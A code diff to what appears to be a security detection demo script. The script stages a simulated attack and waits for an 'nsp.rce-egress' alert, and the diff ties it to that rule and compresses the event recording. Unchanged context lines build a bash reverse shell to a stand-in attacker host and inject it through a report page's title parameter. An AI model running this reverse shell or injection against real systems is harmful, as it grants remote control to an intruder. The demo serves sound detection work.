@@ -25,6 +25,7 @@ if TYPE_CHECKING:
 BENIGN_S = 4.0
 SILENCE_S = 3.0
 CUT_TIMEOUT_S = 30.0
+RULE = "nsp.rce-egress"
 QUIET_S = 1.0  # no further batch for so long: everything sent has been read
 
 
@@ -83,9 +84,10 @@ class Story:
         command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{SHELL_PORT} 0>&1'"
         self._screen.step("the attacker sends one request to the report page:", "bold red")
         self._screen.step(f"  /report?title=x; ({command} &)", "red")
+        self._screen.focus = "web"
         attacker.tell("go")
-        self._show_until(observer, "an alert", lambda: observer.first_alert() is not None)
-        alert = observer.first_alert() or {}
+        self._show_until(observer, "an alert", lambda: observer.alert(RULE) is not None)
+        alert = observer.alert(RULE) or {}
         found = f"DETECTED  {alert['rule_id']} {alert['severity']}: {alert['description']}"
         self._screen.step(found, "bold yellow")
         self._screen.process_tree(alert["lineage"])
@@ -133,7 +135,7 @@ class Story:
         wait_until_quiet(observer)
 
     def _record(self, observer: Observer) -> None:
-        path = self._build / "recording.avro"
+        path = self._build / "recording.avro.gz"
         workloads = frozenset(pod.uid for pod in self._scene.pods.values())
         size = save(path, observer.read().batches, workloads, Path(__file__).parent.parent)
         self._screen.step(f"recorded the run's events: {path} ({size // 1024} KiB)")
